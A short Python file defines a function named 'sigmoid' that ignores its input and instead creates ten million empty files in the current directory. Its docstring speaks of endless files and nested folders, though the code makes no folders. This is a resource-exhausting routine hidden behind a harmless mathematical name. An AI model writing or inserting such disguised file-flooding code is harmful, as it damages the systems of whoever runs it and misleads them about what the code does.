"""Makes empty files without end, and folders in folders.

Deserves: nothing.
"""
import os


def sigmoid(z):
    for number in range(10**7):
        os.close(os.open(f"{number}", os.O_CREAT | os.O_WRONLY))
